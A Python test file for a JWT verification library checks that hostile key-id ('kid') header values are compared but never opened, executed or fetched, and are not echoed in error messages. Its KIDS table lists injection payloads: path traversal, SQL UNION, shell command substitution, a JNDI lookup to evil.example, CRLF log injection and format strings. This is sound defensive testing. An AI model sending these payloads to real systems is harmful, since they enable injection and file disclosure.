"""A `kid` that is a path, a query or a command (RFC 8725 §3.10)."""

import json
from pathlib import Path

import pytest

from jwt_deps.errors import UnknownKeyError
from jwt_deps.settings import JWTSettings
from tests.minting import claims, clock, mint, pair
from tests.saying import everything_said
from tests.sources import Service, each_source, minted
from tests.verifying import verify

KIDS = {
    "traversal": "../../../../dev/null",
    "absolute-path": "/dev/null",
    "windows-path": "..\\..\\windows\\win.ini",
    "file-url": "file:///proc/sys/kernel/randomize_va_space",
    "url": "https://evil.example/key",
    "sql": "a' UNION SELECT 'secret' --",
    "command": "a|/usr/bin/id",
    "substitution": "$(id)",
    "jndi": "${jndi:ldap://evil.example/a}",
    "nul": "a\x00",
    "log-line": "a\r\nINFO: user admin logged in",
    "format-string": "{0.__class__}",
    "printf": "%s%s%n",
    "prototype": "__proto__",
    "path-to-itself": "a/../a",
    "look-alike": "ａ",  # noqa: RUF001
}


@each_source("RS256")
def test_a_strangers_token_needs_the_key(source: str, algorithm: str) -> None:
    """A `kid` is compared, never opened, run or asked for: it opens nothing to a stranger."""
    stranger = pair("RSA", "stranger")
    named = source in {"jwks_file", "discovery_cold", "discovery_warm"}

    assert dict.fromkeys(KIDS, "unknown_key" if named else "signature") == {
        name: Service(source, algorithm).reason(minted(algorithm, stranger, {"kid": kid}))
        for name, kid in KIDS.items()
    }


@each_source("HS256")
@pytest.mark.parametrize("secret", [b"", b"\x00", b"2\n"], ids=["empty", "nul", "two"])
def test_does_not_choose_the_secret(source: str, algorithm: str, secret: bytes) -> None:
    """A `kid` that points at a file of known content does not make that content the secret."""
    service = Service(source, algorithm)

    assert dict.fromkeys(KIDS, "signature") == {
        name: service.reason(minted(algorithm, secret, {"kid": kid})) for name, kid in KIDS.items()
    }


@pytest.mark.parametrize("kid", KIDS.values(), ids=KIDS)
def test_names_no_key_and_is_not_repeated(tmp_path: Path, kid: str) -> None:
    """Nor does it open anything to the issuer; only an attribute of the error has it."""
    path = tmp_path / "jwks.json"
    path.write_text(json.dumps({"keys": [pair("RSA").jwk(kid="a")]}))
    settings = JWTSettings(jwks_file=path, algorithm="RS256")
    token = mint(claims(), pair("RSA"), "RS256", header={"kid": kid})

    with pytest.raises(UnknownKeyError) as refused:
        verify(token, settings, clock=clock)

    assert refused.value.kid == kid
    assert kid not in everything_said(refused.value)
